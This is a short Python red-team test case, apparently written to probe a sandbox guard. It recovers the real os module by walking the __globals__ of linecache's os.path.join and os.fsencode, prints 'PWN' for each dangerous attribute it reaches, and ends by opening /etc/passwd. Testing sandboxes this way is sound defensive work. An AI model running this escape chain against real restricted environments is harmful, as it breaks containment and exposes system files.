# red team: real os through the __globals__ of a function a stand-in holds (linecache.os.path.join -> posixpath -> os.fsencode -> os)
# guard: open
import linecache
g = linecache.os.path.join.__globals__
os_ = g.get('os')
inner = getattr(getattr(os_, 'fsencode', None), '__globals__', {})
for name in ('access', 'readlink', 'environ', 'pipe', 'umask', 'listdir', 'stat'):
    if name in inner or hasattr(os_, name) and name != 'stat':
        print('PWN', name)
print(sorted(g))
open("/etc/passwd")
